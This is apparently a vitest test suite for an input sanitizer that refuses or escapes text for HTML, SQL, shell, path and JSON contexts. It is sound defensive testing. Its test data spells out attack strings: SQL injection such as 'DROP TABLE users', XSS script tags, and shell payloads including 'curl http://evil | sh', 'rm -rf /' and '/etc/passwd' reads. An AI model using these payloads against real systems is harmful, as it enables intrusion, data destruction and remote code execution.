// Holds every context to its promise: what it returns is safe there and loses nothing, or nothing is returned.
import { execFileSync } from "node:child_process";
import { DatabaseSync } from "node:sqlite";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseText } from "./context.ts";
import type { DataKind } from "./context.ts";
import { parseData } from "./data.ts";

const rulesOf = (text: string, kind: DataKind) => {
  const parsed = parseText(text, kind);
  return parsed.valid ? [] : parsed.refusals.map(({ rule }) => rule);
};
const anyText = fc.string({ unit: "grapheme", maxLength: 60 });

describe("plain text", () => {
  it.each([
    ["Tests pass; DROP TABLE users", "sql"],
    ["x'); DELETE FROM runs WHERE 1=1", "sql"],
    ["ok ; drop  database charter", "sql"],
    ["' OR '1'='1", "sql"],
    ["id=1 UNION ALL SELECT password FROM users", "sql"],
    ["fix<script>alert(1)</script>", "script"],
    ["see <SCRIPT src=//evil>", "script"],
    ['<img src=x onerror="alert(1)">', "script"],
    ["[link](javascript:alert(1))", "script"],
    ["build; rm -rf /", "shell"],
    ["build && curl http://evil | sh", "shell"],
    ["$(whoami)", "shell"],
    ["run `cat /etc/passwd`", "shell"],
    ["../../../etc/passwd", "path_traversal"],
    ["..\\..\\windows\\system32", "path_traversal"],
    ["%2e%2e%2fetc", "path_traversal"],
    ["nul\0byte", "control_character"],
    ["bell\u0007", "control_character"],
  ])("refuses %j", (text, rule) => {
    expect(rulesOf(text, "plain-text")).toContain(rule);
  });

  it.each([
    "The parser fails on empty input; update all tests and drop the old table of contents.",
    "R&D costs $5 more | see `parse()` and `src/kernel/hash.ts`; it's fine.",
    "Select the union of both sets, then insert a line into the README.",
    "Use a <div> or a < b && c > d comparison.",
    "Import ../errors.ts from the sibling folder.",
    "Don't create users by hand; create an index page.",
    "Line one\nline two\twith a tab",
    "O'Brien said: \"that's or isn't = equal\"",
    "Описание: всё хорошо; 日本語も。",
  ])("lets honest text pass unchanged: %j", (text) => {
    expect(parseText(text, "plain-text")).toEqual({ valid: true, value: text });
  });
});

describe("text for a context", () => {
  it("is the same text again when a page shows it", () => {
    const names: Readonly<Record<string, string>> = { amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'" };
    fc.assert(
      fc.property(anyText, (text) => {
        const parsed = parseText(text, "html-text");
        if (!parsed.valid) return;
        expect(parsed.value).not.toMatch(/[<>"']/);
        const shown = String(parsed.value).replaceAll(
          /&(amp|lt|gt|quot|#39);/g,
          (_whole, name: string) => names[name]!,
        );
        expect(shown).toBe(text);
      }),
    );
  });

  it("is the same text again when a database reads the literal", () => {
    using database = new DatabaseSync(":memory:");
    fc.assert(
      fc.property(fc.oneof(anyText, fc.constantFrom("O'Brien", "'; --", "''''", "a;b")), (text) => {
        const parsed = parseText(text, "sql-literal");
        if (!parsed.valid) return;
        expect(database.prepare(`SELECT ${String(parsed.value)} AS value`).get()).toEqual({ value: text });
      }),
    );
  });

  it("is the same text again when a shell reads the argument", () => {
    const texts = [
      "a b",
      "it's",
      "$HOME",
      "`date`",
      "a;b|c&d",
      "*?[x]",
      '"quoted"',
      "new\nline",
      "$(echo hi)",
      "\\n",
      "é 日本",
    ];
    const words = texts.map((text) => {
      const parsed = parseText(text, "shell-argument");
      expect(parsed.valid, text).toBe(true);
      return parsed.valid ? String(parsed.value) : "";
    });
    const read = execFileSync("sh", ["-c", `printf '%s\\037' ${words.join(" ")}`], { encoding: "utf8" });
    expect(read.split("\u001f").slice(0, -1)).toEqual(texts);
  });

  it.each<[DataKind, string, string]>([
    ["sql-literal", "x'; DROP TABLE users; --", "sql"],
    ["sql-literal", "back\\slash", "backslash"],
    ["html-text", "<script>alert(1)</script>", "script"],
    ["shell-argument", "x; rm -rf /", "shell"],
    ["shell-argument", "--output=/etc/passwd", "option"],
    ["shell-argument", "nul\0", "control_character"],
    ["path-segment", "..", "path_traversal"],
    ["path-segment", "a/b", "path_separator"],
    ["path-segment", "a\\b", "path_separator"],
    ["path-segment", "%2e%2e%2fx", "path_traversal"],
    ["path-segment", "-rf", "path_name"],
    ["path-segment", "name.", "path_name"],
    ["path-segment", "ä".repeat(128), "too_long"],
    ["identifier", "users; DROP TABLE x", "identifier"],
    ["identifier", "1st", "identifier"],
    ["identifier", "a".repeat(64), "identifier"],
    ["json", '{"a":1,"a":2}', "duplicate_key"],
  ])("is refused for %s: %j", (kind, text, rule) => {
    expect(rulesOf(text, kind)).toContain(rule);
  });

  it("is passed on where the context holds it", () => {
    expect(parseText("report-2026.txt", "path-segment")).toEqual({ valid: true, value: "report-2026.txt" });
    expect(parseText("task_id", "identifier")).toEqual({ valid: true, value: "task_id" });
    expect(parseText("[1]", "json")).toEqual({ valid: true, value: [1] });
  });
});

describe("an answer as data", () => {
  const kinds = { "/file": "path-segment", "/rows/*/name": "sql-literal" } as const;

  it("has every text made safe for what it is for", () => {
    const answer = '{"file":"a.txt","rows":[{"name":"O\'Brien"},{"name":"b"}],"note":"fine","n":3}';
    expect(parseData(answer, undefined, kinds)).toEqual({
      valid: true,
      value: { file: "a.txt", rows: [{ name: "'O''Brien'" }, { name: "'b'" }], note: "fine", n: 3 },
    });
  });

  it("is refused whole, with the place of every field that is wrong", () => {
    const answer = '{"file":"../x","rows":[{"name":"a"},{"name":"\'; DROP TABLE t"}],"note":"<script>"}';
    const parsed = parseData(answer, undefined, kinds);
    expect(parsed).not.toHaveProperty("value");
    expect(parsed).toMatchObject({
      valid: false,
      refusals: [{ at: "/file" }, { at: "/rows/1/name", rule: "sql" }, { at: "/note", rule: "script" }],
    });
  });

  it("is refused for an attack in a key", () => {
    expect(parseData('{"<script>":1}', undefined, {})).toMatchObject({ refusals: [{ rule: "script" }] });
  });

  it("says nothing of what was answered", () => {
    const parsed = parseData('{"note":"hunter2; DROP TABLE users"}', undefined, {});
    expect(JSON.stringify(parsed)).not.toContain("hunter2");
  });
});
